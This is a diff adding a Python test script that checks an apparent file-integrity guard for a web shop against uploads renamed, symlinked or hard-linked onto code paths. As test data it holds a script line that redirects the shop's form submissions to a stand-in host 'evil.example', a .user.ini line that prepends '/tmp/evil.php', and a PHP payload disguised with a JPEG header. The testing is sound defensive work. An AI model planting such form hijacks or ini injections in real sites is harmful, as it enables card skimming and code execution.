@@ -1,0 +1,154 @@
+#!/usr/bin/env python3
+"""What was judged under a harmless name and is then moved onto code: each open is judged by the
+name under which the file stands then. And the other way round: a new file that was given the
+inode of one that was taken away is not mistaken for it."""
+import json
+import os
+
+from held import EVIL, FILES, GOOD, PAY, Held, end, ok, put, quiet, wait_for
+
+ROUNDS = 12
+SCRIPT = "var shop = 1; document.forms[0].action = 'https://evil.example/'; // EVIL\n"
+INI = "; EVIL\nauto_prepend_file=/tmp/evil.php\n"
+
+
+def read(path):
+    with open(path, "rb") as f:
+        return f.read().decode(errors="replace")
+
+
+def moved_onto(s, source, rel, text):
+    """Put down, read once as anyone may, moved, and read at once under its new name."""
+    put(s, source, text)
+    try:
+        first = read(s.path(source)) == text
+    except OSError:
+        first = False  # a program among uploads
+    os.rename(s.path(source), s.path(rel))
+    try:
+        return first, read(s.path(rel))
+    except OSError as e:
+        return first, e
+
+
+def disguised(s, source, rel, text, want, first=True):
+    """`want`: the approved content, or None where nothing may be read."""
+    seen = []
+    for i in range(ROUNDS):
+        moved = s.intruder(moved_onto, source % i, rel, "%s// %d\n" % (text, i))
+        if not isinstance(moved, tuple):
+            if not isinstance(moved, FileNotFoundError):  # it was taken away from among the uploads
+                seen.append(moved)
+            continue
+        if moved[0] != first or (moved[1] != want if want is not None else not isinstance(moved[1], OSError)):
+            seen.append(moved)
+        if want is not None:
+            s.healed(rel)
+        else:
+            wait_for(lambda: not os.path.exists(s.path(rel)), 10)
+    ok(not seen, "%s moved onto %s: read by nobody" % (source % 0, rel),
+       "%s\n%s" % (seen[:3], "\n".join(json.dumps(f)[:400] for f in s.log("--path", rel)[-12:])))
+
+
+def linked(s, source, rel, text, want):
+    """A link where code belongs, to a file that anyone may write."""
+    def act(s, i):
+        target = source % i
+        put(s, target, "%s// %d\n" % (text, i))
+        try:
+            read(s.path(target))
+        except OSError:
+            pass
+        os.symlink("../" * rel.count("/") + target, s.path("uploads/%d.l" % i))
+        os.rename(s.path("uploads/%d.l" % i), s.path(rel))
+        try:
+            return read(s.path(rel))
+        except OSError as e:
+            return e
+    seen = []
+    for i in range(ROUNDS):
+        got = s.intruder(act, i)
+        if got != want and not isinstance(got, OSError):
+            seen.append(got)
+        s.healed(rel)
+    ok(not seen, "a link from %s to %s: read by nobody" % (rel, source % 0),
+       "%d of %d\n%s" % (len(seen), ROUNDS, seen[:2]))
+
+
+def approved_under_another_name(s):
+    """A hard link of approved code, moved onto other code: approved, but not there."""
+    def act(s):
+        os.link(s.path("lib/a.php"), s.path("uploads/a.txt"))
+        os.rename(s.path("uploads/a.txt"), s.path(PAY))
+    s.customer("lib/a.php")
+    s.intruder(act)
+    ok(s.healed(), "approved code moved onto other code: what belongs there is put back")
+    ok(s.customer("lib/a.php") == FILES["lib/a.php"], "and stays where it was")
+
+    def at_once(s):
+        act(s)
+        try:
+            return read(s.path(PAY))
+        except OSError as e:
+            return e
+    seen = []
+    for _ in range(ROUNDS):
+        got = s.intruder(at_once)
+        if got != GOOD and not isinstance(got, PermissionError):
+            seen.append(got)
+        s.healed()
+        there = s.customer("lib/a.php")
+        if there != FILES["lib/a.php"]:
+            seen.append(("lib/a.php", there, [json.dumps(f)[:300] for f in s.log("--path", "lib/a.php")[-3:]]))
+    # The kernel tells of a rename when it is done: the first open can be faster.
+    ok(all(x == FILES["lib/a.php"] for x in seen), "nothing but approved code is read meanwhile (%d times that of "
+       "the other name)" % len(seen), seen)
+
+
+def same_inode(s):
+    """On ext4 the next file gets the number that was freed last."""
+    def one(s, i):
+        put(s, "uploads/t.txt", EVIL)
+        number = os.stat(s.path("uploads/t.txt")).st_ino
+        os.rename(s.path("uploads/t.txt"), s.path(PAY))
+        return number
+    met = 0
+    wrong = []
+    for i in range(ROUNDS):
+        number = s.intruder(one, i)
+        s.healed()
+        quiet(0.05)
+        page = "<?php // page %d ?>" % i
+        made = s.intruder(compiled, i, page)
+        met += number in made
+        wrong += [n for n in range(8) if s.customer("cache/%d-%d.php" % (i, n)) != page]
+    ok(not wrong, "%d of %d times a compiled page had the inode of altered code: it stays what it is" % (met, ROUNDS),
+       wrong)
+
+
+def compiled(s, i, page):
+    """As a shop's template cache does it."""
+    made = []
+    for n in range(8):
+        put(s, "cache/%d-%d.new" % (i, n), page)
+        os.rename(s.path("cache/%d-%d.new" % (i, n)), s.path("cache/%d-%d.php" % (i, n)))
+        made.append(os.stat(s.path("cache/%d-%d.php" % (i, n))).st_ino)
+    return made
+
+
+s = Held({**FILES, "data/cache/keep.txt": "x", "cache/keep.txt": "x"}).open()
+disguised(s, "uploads/%d.txt", "static/shop.js", SCRIPT, FILES["static/shop.js"])
+disguised(s, "uploads/%d.jpg", PAY, EVIL.replace("<?php", "\xff\xd8\xff\xe0 <?php"), GOOD, False)
+disguised(s, "data/cache/%d.php", PAY, EVIL, GOOD)
+disguised(s, "uploads/%d.txt", ".user.ini", INI, None)
+disguised(s, "cache/%d.php", "static/shop.js", SCRIPT, FILES["static/shop.js"])
+linked(s, "uploads/l%d.php", PAY, EVIL, GOOD)
+linked(s, "uploads/l%d.txt", "static/shop.js", SCRIPT, FILES["static/shop.js"])
+linked(s, "data/cache/l%d.php", PAY, EVIL, GOOD)
+linked(s, "cache/l%d.php", PAY, EVIL, GOOD)
+approved_under_another_name(s)
+same_inode(s)
+ok(s.customer() == GOOD, "customers read approved code")
+s.stop()
+s.done()
+end()
